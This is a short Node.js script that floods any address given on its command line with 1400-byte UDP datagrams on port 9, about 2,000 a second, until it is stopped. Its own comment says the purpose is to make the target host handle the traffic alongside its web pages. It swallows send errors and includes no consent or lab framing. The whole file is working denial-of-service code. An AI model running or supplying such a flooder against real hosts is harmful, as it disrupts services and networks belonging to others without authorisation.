// Sends datagrams to a port of ADDRESS at which no process listens, 2,000 a second until it is ended: a host
// that swaps over TCP has to receive them beside its pages.
//
//   node flood.mjs ADDRESS
import { createSocket } from 'node:dgram'

const [address] = process.argv.slice(2)
/** What a packet of Ethernet holds. */
const datagram = Buffer.alloc(1400, 0xf1)
const socket = createSocket('udp4')
// Refused, or no room to send: the next ones may go.
socket.on('error', () => {})
let sent = 0
const AT_ONCE = 20
setInterval(() => {
  for (let i = 0; i < AT_ONCE; i++) socket.send(datagram, 9, address, () => sent++)
}, 10)
console.log('flooding')
process.on('SIGTERM', () => {
  console.log(`sent ${sent}`)
  process.exit(0)
})
